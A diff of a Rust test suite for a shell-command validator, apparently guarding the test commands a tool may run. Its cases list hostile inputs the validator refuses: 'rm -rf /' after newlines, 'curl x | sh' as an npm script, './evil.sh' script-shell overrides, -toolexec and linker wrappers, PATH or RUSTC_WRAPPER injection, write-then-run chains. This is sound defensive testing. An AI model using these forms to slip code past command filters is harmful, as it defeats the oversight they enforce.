@@ -22,10 +22,16 @@ impl Repo for FakeRepo {
 
 fn repo() -> FakeRepo {
     FakeRepo {
-        files: ["scripts/test.sh", "scripts/gen.js", "tools/check.py", "test/run.js", "Makefile"]
-            .iter()
-            .map(PathBuf::from)
-            .collect(),
+        files: [
+            "scripts/test.sh",
+            "scripts/gen.js",
+            "tools/check.py",
+            "test/run.js",
+            "Makefile",
+        ]
+        .iter()
+        .map(PathBuf::from)
+        .collect(),
         bins: ["eslint", "jest"].iter().map(|s| s.to_string()).collect(),
     }
 }
@@ -51,7 +57,11 @@ fn refused(command: &str, rule: &str, offending: &str) -> Refusal {
         Ok(cmds) => panic!("`{command}` was accepted as {cmds:?}; expected {rule}"),
         Err(r) => {
             assert_eq!(r.rule, rule, "`{command}`: {r}");
-            assert!(r.offending.contains(offending), "`{command}`: offending `{}` lacks `{offending}`", r.offending);
+            assert!(
+                r.offending.contains(offending),
+                "`{command}`: offending `{}` lacks `{offending}`",
+                r.offending
+            );
             assert!(!r.suggestion.is_empty(), "`{command}` has no suggestion");
             assert!(!r.reason.is_empty());
             r
@@ -61,10 +71,16 @@ fn refused(command: &str, rule: &str, offending: &str) -> Refusal {
 
 #[test]
 fn lookalikes_that_must_pass() {
-    assert_eq!(argv("cargo test --quiet"), vec![vec!["cargo", "test", "--quiet"]]);
+    assert_eq!(
+        argv("cargo test --quiet"),
+        vec![vec!["cargo", "test", "--quiet"]]
+    );
     assert_eq!(argv("npm test"), vec![vec!["npm", "test"]]);
     assert_eq!(argv("node --test"), vec![vec!["node", "--test"]]);
-    assert_eq!(argv("python -m pytest -q"), vec![vec!["python", "-m", "pytest", "-q"]]);
+    assert_eq!(
+        argv("python -m pytest -q"),
+        vec![vec!["python", "-m", "pytest", "-q"]]
+    );
     assert_eq!(argv("go test ./..."), vec![vec!["go", "test", "./..."]]);
     assert_eq!(
         argv("cargo fmt --check && cargo clippy -- -D warnings"),
@@ -76,19 +92,40 @@ fn lookalikes_that_must_pass() {
     assert_eq!(argv("make test"), vec![vec!["make", "test"]]);
     assert_eq!(argv("make V=1 test"), vec![vec!["make", "V=1", "test"]]);
     assert_eq!(argv("./gradlew test"), vec![vec!["./gradlew", "test"]]);
-    assert_eq!(argv("bundle exec rspec"), vec![vec!["bundle", "exec", "rspec"]]);
+    assert_eq!(
+        argv("bundle exec rspec"),
+        vec![vec!["bundle", "exec", "rspec"]]
+    );
     assert_eq!(argv("npx eslint ."), vec![vec!["npx", "eslint", "."]]);
-    assert_eq!(argv("python -m pytest -c pytest.ini"), vec![vec!["python", "-m", "pytest", "-c", "pytest.ini"]]);
-    assert_eq!(argv("ruby -Ilib test/run.js"), vec![vec!["ruby", "-Ilib", "test/run.js"]]);
+    assert_eq!(
+        argv("python -m pytest -c pytest.ini"),
+        vec![vec!["python", "-m", "pytest", "-c", "pytest.ini"]]
+    );
+    assert_eq!(
+        argv("ruby -Ilib test/run.js"),
+        vec![vec!["ruby", "-Ilib", "test/run.js"]]
+    );
     assert_eq!(argv("node test/run.js"), vec![vec!["node", "test/run.js"]]);
-    assert_eq!(argv("node -- test/run.js -p 3000"), vec![vec!["node", "--", "test/run.js", "-p", "3000"]]);
-    assert_eq!(argv("python tools/check.py"), vec![vec!["python", "tools/check.py"]]);
+    assert_eq!(
+        argv("node -- test/run.js -p 3000"),
+        vec![vec!["node", "--", "test/run.js", "-p", "3000"]]
+    );
+    assert_eq!(
+        argv("python tools/check.py"),
+        vec![vec!["python", "tools/check.py"]]
+    );
 }
 
 #[test]
 fn env_assignments_are_kept_apart_from_argv() {
     let cmds = check("FOO=1 RUST_LOG='debug x' cargo test").unwrap();
-    assert_eq!(cmds[0].env, vec![("FOO".into(), "1".into()), ("RUST_LOG".into(), "debug x".into())]);
+    assert_eq!(
+        cmds[0].env,
+        vec![
+            ("FOO".into(), "1".into()),
+            ("RUST_LOG".into(), "debug x".into())
+        ]
+    );
     assert_eq!(cmds[0].argv, vec!["cargo", "test"]);
     assert_eq!(cmds[0].display(), "FOO=1 RUST_LOG='debug x' cargo test");
 }
@@ -97,18 +134,38 @@ fn env_assignments_are_kept_apart_from_argv() {
 fn quoted_args_with_spaces_stay_one_word() {
     assert_eq!(
         argv("cargo test -- --skip 'slow test' \"other one\" a\\ b"),
-        vec![vec!["cargo", "test", "--", "--skip", "slow test", "other one", "a b"]]
+        vec![vec![
+            "cargo",
+            "test",
+            "--",
+            "--skip",
+            "slow test",
+            "other one",
+            "a b"
+        ]]
     );
     // Quoted shell syntax is just text for the program.
-    assert_eq!(argv("cargo test 'a|b;c&&d $(x) `y` *'"), vec![vec!["cargo", "test", "a|b;c&&d $(x) `y` *"]]);
-    assert_eq!(argv("cargo test 'line1\nline2'"), vec![vec!["cargo", "test", "line1\nline2"]]);
+    assert_eq!(
+        argv("cargo test 'a|b;c&&d $(x) `y` *'"),
+        vec![vec!["cargo", "test", "a|b;c&&d $(x) `y` *"]]
+    );
+    assert_eq!(
+        argv("cargo test 'line1\nline2'"),
+        vec![vec!["cargo", "test", "line1\nline2"]]
+    );
 }
 
 #[test]
 fn scripts_inside_the_repo_are_the_safe_form() {
-    assert_eq!(argv("./scripts/test.sh --fast"), vec![vec!["./scripts/test.sh", "--fast"]]);
+    assert_eq!(
+        argv("./scripts/test.sh --fast"),
+        vec![vec!["./scripts/test.sh", "--fast"]]
+    );
     assert_eq!(argv("scripts/test.sh"), vec![vec!["scripts/test.sh"]]);
-    assert_eq!(argv("/repo/scripts/test.sh"), vec![vec!["/repo/scripts/test.sh"]]);
+    assert_eq!(
+        argv("/repo/scripts/test.sh"),
+        vec![vec!["/repo/scripts/test.sh"]]
+    );
     let r = refused("./scripts/missing.sh", "check.path", "./scripts/missing.sh");
     assert!(r.reason.contains("does not exist"), "{}", r.reason);
     let r = refused("/usr/local/bin/thing", "check.path", "/usr/local/bin/thing");
@@ -138,15 +195,31 @@ fn redirections_are_refused() {
     refused("cargo test >> log", "check.redirect", ">>");
     refused("cargo test < input", "check.redirect", "<");
     refused("cargo test &> log", "check.redirect", "&>");
-    refused("python tools/check.py <<EOF\nx\nEOF", "check.redirect", "<<");
-    refused("python tools/check.py <<< 'print(1)'", "check.redirect", "<<<");
+    refused(
+        "python tools/check.py <<EOF\nx\nEOF",
+        "check.redirect",
+        "<<",
+    );
+    refused(
+        "python tools/check.py <<< 'print(1)'",
+        "check.redirect",
+        "<<<",
+    );
 }
 
 #[test]
 fn substitutions_and_expansions_are_refused() {
-    refused("cargo test $(cat args)", "check.substitution", "$(cat args)");
+    refused(
+        "cargo test $(cat args)",
+        "check.substitution",
+        "$(cat args)",
+    );
     refused("cargo test `cat args`", "check.substitution", "`cat args`");
-    refused("cargo test \"$(whoami)\"", "check.substitution", "$(whoami)");
+    refused(
+        "cargo test \"$(whoami)\"",
+        "check.substitution",
+        "$(whoami)",
+    );
     refused("cargo test <(echo x)", "check.substitution", "<(");
     refused("cargo test >(cat)", "check.substitution", ">(");
     refused("cargo test $HOME", "check.expansion", "$HOME");
@@ -164,8 +237,14 @@ fn unquoted_globs_are_refused() {
     refused("pytest test_[ab].py", "check.glob", "test_[ab].py");
     refused("pytest {a,b}.py", "check.glob", "{a,b}.py");
     // Quoted or escaped patterns are plain text for the program.
-    assert_eq!(argv("cargo test 'tests::*'"), vec![vec!["cargo", "test", "tests::*"]]);
-    assert_eq!(argv("cargo test tests::\\*"), vec![vec!["cargo", "test", "tests::*"]]);
+    assert_eq!(
+        argv("cargo test 'tests::*'"),
+        vec![vec!["cargo", "test", "tests::*"]]
+    );
+    assert_eq!(
+        argv("cargo test tests::\\*"),
+        vec![vec!["cargo", "test", "tests::*"]]
+    );
 }
 
 #[test]
@@ -173,10 +252,26 @@ fn control_flow_functions_and_subshells_are_refused() {
     refused("(cargo test)", "check.subshell", "(");
     refused("{ cargo test; }", "check.subshell", "{");
     refused("if true; then cargo test; fi", "check.control_flow", "if");
-    refused("for x in a; do cargo test; done", "check.control_flow", "for");
-    refused("while true; do cargo test; done", "check.control_flow", "while");
-    refused("until cargo test; do :; done", "check.control_flow", "until");
-    refused("case x in x) cargo test;; esac", "check.control_flow", "case");
+    refused(
+        "for x in a; do cargo test; done",
+        "check.control_flow",
+        "for",
+    );
+    refused(
+        "while true; do cargo test; done",
+        "check.control_flow",
+        "while",
+    );
+    refused(
+        "until cargo test; do :; done",
+        "check.control_flow",
+        "until",
+    );
+    refused(
+        "case x in x) cargo test;; esac",
+        "check.control_flow",
+        "case",
+    );
     refused("[[ -f x ]] && cargo test", "check.control_flow", "[[");
     refused("((1)) && cargo test", "check.control_flow", "((");
     refused("f() { cargo test; }", "check.function", "f()");
@@ -189,6 +284,9 @@ fn newlines_and_carriage_returns_outside_quotes_are_refused() {
     refused("cargo test\nrm -rf /", "check.newline", "\\n");
     refused("cargo test\r\nrm -rf /", "check.newline", "\\");
     refused("cargo test\rrm -rf /", "check.newline", "\\r");
+    refused("cargo test &&\nnpm test", "check.newline", "\\n");
+    // A trailing newline (a TOML multi-line string) hides nothing.
+    assert_eq!(argv("cargo test\n"), vec![vec!["cargo", "test"]]);
 }
 
 #[test]
@@ -212,8 +310,23 @@ fn extra_programs_extend_the_allowlist_but_never_with_shells() {
     let mut o = opts();
     o.extra_programs = vec!["rm".into(), "bash".into(), "env".into()];
     assert!(vet_with("rm -rf target", &o, &repo()).is_ok());
-    assert_eq!(vet_with("bash -c x", &o, &repo()).unwrap_err().rule, "check.shell");
-    assert_eq!(vet_with("env x", &o, &repo()).unwrap_err().rule, "check.wrapper");
+    assert_eq!(
+        vet_with("bash -c x", &o, &repo()).unwrap_err().rule,
+        "check.shell"
+    );
+    assert_eq!(
+        vet_with("env x", &o, &repo()).unwrap_err().rule,
+        "check.wrapper"
+    );
+    // Versioned interpreter names keep their interpreter's rules.
+    o.extra_programs = vec!["node18".into(), "python3.12".into(), "ruby3.3".into()];
+    for cmd in ["node18 -e x", "python3.12 -c x", "ruby3.3 -e x"] {
+        assert_eq!(
+            vet_with(cmd, &o, &repo()).unwrap_err().rule,
+            "check.inline_code",
+            "{cmd}"
+        );
+    }
 }
 
 #[test]
@@ -228,8 +341,13 @@ fn interpreter_inline_code_and_preload_flags_are_refused() {
         ("node --require ./hook.js", "--require"),
         ("node --import ./hook.mjs", "--import"),
         ("node --loader ./l.mjs test/run.js", "--loader"),
-        ("node --experimental-loader ./l.mjs", "--experimental-loader"),
+        (
+            "node --experimental-loader ./l.mjs",
+            "--experimental-loader",
+        ),
         ("node --env-file .env test/run.js", "--env-file"),
+        ("node --openssl-config=/tmp/x.cnf test/run.js", "--openssl-config"),
+        ("node --experimental-config-file x.json", "--experimental-config-file"),
         ("python -c 'import os'", "-c"),
         ("python3 -c 'import os'", "-c"),
         ("ruby -e 'system 1'", "-e"),
@@ -259,20 +377,48 @@ fn package_runner_escapes_are_refused() {
     refused("npx --yes cowsay", "check.package_runner", "--yes");
     let r = refused("npx cowsay hi", "check.package_runner", "cowsay");
     assert!(r.reason.contains("node_modules/.bin"), "{}", r.reason);
-    refused("npx --package evil eslint", "check.package_runner", "--package");
+    refused(
+        "npx --package evil eslint",
+        "check.package_runner",
+        "--package",
+    );
     refused("npm exec cowsay", "check.package_runner", "cowsay");
-    refused("npm explore lodash -- ls", "check.package_runner", "explore");
-    refused("npm config set script-shell ./x", "check.package_runner", "set");
-    refused("npm pkg set scripts.test='rm -rf /'", "check.package_runner", "set");
-    refused("npm test --script-shell=./evil.sh", "check.package_runner", "--script-shell");
-    refused("npm run x --script-shell ./evil.sh", "check.package_runner", "--script-shell");
+    refused(
+        "npm explore lodash -- ls",
+        "check.package_runner",
+        "explore",
+    );
+    refused(
+        "npm config set script-shell ./x",
+        "check.package_runner",
+        "set",
+    );
+    refused(
+        "npm pkg set scripts.test='rm -rf /'",
+        "check.package_runner",
+        "set",
+    );
+    refused(
+        "npm test --script-shell=./evil.sh",
+        "check.package_runner",
+        "--script-shell",
+    );
+    refused(
+        "npm run x --script-shell ./evil.sh",
+        "check.package_runner",
+        "--script-shell",
+    );
     refused("npm init evil", "check.package_runner", "init");
     refused("pnpm dlx cowsay", "check.package_runner", "dlx");
     refused("pnpm exec cowsay", "check.package_runner", "cowsay");
     refused("yarn dlx cowsay", "check.package_runner", "dlx");
     refused("yarn exec 'rm -rf /'", "check.package_runner", "exec");
     refused("bun x cowsay", "check.package_runner", "cowsay");
-    refused("go run example.com/evil@latest", "check.package_runner", "@latest");
+    refused(
+        "go run example.com/evil@latest",
+        "check.package_runner",
+        "@latest",
+    );
     refused("cargo install ripgrep", "check.package_runner", "install");
     // Locally installed binaries are fine through every runner.
     assert!(check("npx jest --ci").is_ok());
@@ -282,12 +428,77 @@ fn package_runner_escapes_are_refused() {
 
 #[test]
 fn flags_that_run_other_programs_are_refused() {
-    refused("cargo --config 'target.x86_64-unknown-linux-gnu.runner=\"sh\"' test", "check.exec_flag", "--config");
-    refused("cargo test --config=build.rustc-wrapper=x", "check.exec_flag", "--config");
-    refused("go test -toolexec=./x ./...", "check.exec_flag", "-toolexec");
+    refused(
+        "cargo --config 'target.x86_64-unknown-linux-gnu.runner=\"sh\"' test",
+        "check.exec_flag",
+        "--config",
+    );
+    refused(
+        "cargo test --config=build.rustc-wrapper=x",
+        "check.exec_flag",
+        "--config",
+    );
+    refused(
+        "go test -toolexec=./x ./...",
+        "check.exec_flag",
+        "-toolexec",
+    );
     refused("go test -exec ./x ./...", "check.exec_flag", "-exec");
     refused("make SHELL=./evil.sh test", "check.exec_flag", "SHELL=");
+    refused(
+        "go env -w GOFLAGS=-toolexec=./x",
+        "check.exec_flag",
+        "env -w",
+    );
+    refused(
+        "mvn exec:exec -Dexec.executable=sh",
+        "check.exec_flag",
+        "exec:exec",
+    );
+    refused("cmake -E env X=1 sh -c x", "check.exec_flag", "-E");
+    refused("just --command 'sh -c x'", "check.exec_flag", "--command");
+    refused("prove --exec 'sh -c' t/", "check.exec_flag", "--exec");
+    refused("rustc -C linker=./x main.rs", "check.exec_flag", "linker=");
+    refused("mix cmd rm -rf /", "check.exec_flag", "cmd");
+    refused("bundle config set gemfile /tmp/G", "check.exec_flag", "set");
+    refused("make -C /tmp/evil test", "check.path", "/tmp/evil");
     assert!(check("cargo test --config .cargo/ci.toml").is_ok());
+    assert!(check("make -C sub test").is_ok());
+    assert!(check("go env GOPATH").is_ok());
+}
+
+/// Runners that start whatever program they are given: the program they name is vetted.
+#[test]
+fn nested_commands_of_runners_are_vetted() {
+    refused("bundle exec sh -c 'x'", "check.shell", "sh");
+    refused("bundle exec rm -rf /", "check.program", "rm");
+    refused("bundle exec ruby -e x", "check.inline_code", "-e");
+    assert!(check("bundle exec rspec --fail-fast").is_ok());
+    refused(
+        "yarn workspace app exec 'rm -rf /'",
+        "check.package_runner",
+        "exec",
+    );
+    refused("yarn workspace app node -e x", "check.inline_code", "-e");
+    refused(
+        "pnpm --filter app exec cowsay",
+        "check.package_runner",
+        "cowsay",
+    );
+    refused("npm --prefix sub exec -c 'x'", "check.package_runner", "-c");
+    refused(
+        "npx --node-options='--require ./x.js' eslint",
+        "check.package_runner",
+        "--node-options",
+    );
+    refused(
+        "npm test --userconfig ./evil.npmrc",
+        "check.package_runner",
+        "--userconfig",
+    );
+    refused("deno run npm:cowsay", "check.remote", "npm:cowsay");
+    assert!(check("npm --prefix sub test").is_ok());
+    assert!(check("yarn workspace app test").is_ok());
 }
 
 #[test]
@@ -302,9 +513,15 @@ fn dangerous_env_assignments_are_refused() {
         ("GIT_CONFIG_GLOBAL=./x cargo test", "GIT_CONFIG_GLOBAL"),
         ("GIT_EXEC_PATH=./x cargo test", "GIT_EXEC_PATH"),
         ("PATH=./bin:/usr/bin cargo test", "PATH"),
-        ("npm_config_script_shell=./x npm test", "npm_config_script_shell"),
+        (
+            "npm_config_script_shell=./x npm test",
+            "npm_config_script_shell",
+        ),
         ("RUSTC_WRAPPER=./x cargo test", "RUSTC_WRAPPER"),
-        ("FOO=1 cargo test && PYTEST_ADDOPTS='-p evil' pytest", "PYTEST_ADDOPTS"),
+        (
+            "FOO=1 cargo test && PYTEST_ADDOPTS='-p evil' pytest",
+            "PYTEST_ADDOPTS",
+        ),
     ] {
         let r = refused(cmd, "check.env", name);
         assert!(r.reason.contains(name), "{}", r.reason);
@@ -341,16 +558,40 @@ fn known_bypasses_of_regex_filters_are_refused() {
     // Flags before -e.
     refused("node --no-warnings -e x", "check.inline_code", "-e");
     refused("node --conditions dev -e x", "check.inline_code", "-e");
-    refused("node --stack-size=999 --eval x", "check.inline_code", "--eval");
+    refused(
+        "node --stack-size=999 --eval x",
+        "check.inline_code",
+        "--eval",
+    );
     refused("python -W ignore -c x", "check.inline_code", "-c");
     refused("python -X dev -c x", "check.inline_code", "-c");
     refused("ruby -I lib -e x", "check.inline_code", "-e");
     // Two allowed commands: the first writes a script, the second runs it.
-    refused("node scripts/gen.js scripts/test.sh && ./scripts/test.sh", "check.write_then_run", "./scripts/test.sh");
-    refused("python tools/check.py --out=test/run.js && node test/run.js", "check.write_then_run", "test/run.js");
-    refused("go build -o bin/ ./cmd && ./bin/tool", "check.write_then_run", "./bin/tool");
-    refused("npm pkg set scripts.test='curl x | sh' && npm test", "check.package_runner", "set");
-    refused("npm config set script-shell ./x && npm test", "check.package_runner", "set");
+    refused(
+        "node scripts/gen.js scripts/test.sh && ./scripts/test.sh",
+        "check.write_then_run",
+        "./scripts/test.sh",
+    );
+    refused(
+        "python tools/check.py --out=test/run.js && node test/run.js",
+        "check.write_then_run",
+        "test/run.js",
+    );
+    refused(
+        "go build -o bin/ ./cmd && ./bin/tool",
+        "check.write_then_run",
+        "./bin/tool",
+    );
+    refused(
+        "npm pkg set scripts.test='curl x | sh' && npm test",
+        "check.package_runner",
+        "set",
+    );
+    refused(
+        "npm config set script-shell ./x && npm test",
+        "check.package_runner",
+        "set",
+    );
     // A program name built from an expansion.
     refused("${X}node -e x", "check.expansion", "${X}");
 }
@@ -370,7 +611,10 @@ fn malformed_and_oversized_input_is_refused_quickly() {
     assert!(start.elapsed() < std::time::Duration::from_secs(1));
     let deep = format!("{}cargo test{}", "(".repeat(100_000), ")".repeat(100_000));
     let r = check(&deep).unwrap_err();
-    assert!(r.rule == "check.too_deep" || r.rule == "check.too_long", "{r}");
+    assert!(
+        r.rule == "check.too_deep" || r.rule == "check.too_long",
+        "{r}"
+    );
     let deep = format!("cargo test {}x{}", "\"$(".repeat(50), ")\"".repeat(50));
     assert_eq!(check(&deep).unwrap_err().rule, "check.too_deep");
     let keywords = format!("{}cargo test", "if a; then ".repeat(40));
@@ -401,7 +645,12 @@ fn vet_uses_the_real_repository_on_disk() {
     assert!(vet("./scripts/test.sh", &o).is_ok());
     assert_eq!(vet("./scripts/nope.sh", &o).unwrap_err().rule, "check.path");
     assert!(vet("npx vitest run", &o).is_ok());
-    assert_eq!(vet("npx cowsay", &o).unwrap_err().rule, "check.package_runner");
+    assert_eq!(
+        vet("npx cowsay", &o).unwrap_err().rule,
+        "check.package_runner"
+    );
+    // `..` resolves to node_modules itself: it is not an installed binary.
+    assert_eq!(vet("npx ..", &o).unwrap_err().rule, "check.package_runner");
     let abs = root.join("scripts/test.sh");
     assert!(vet(&abs.to_string_lossy(), &o).is_ok());
 }
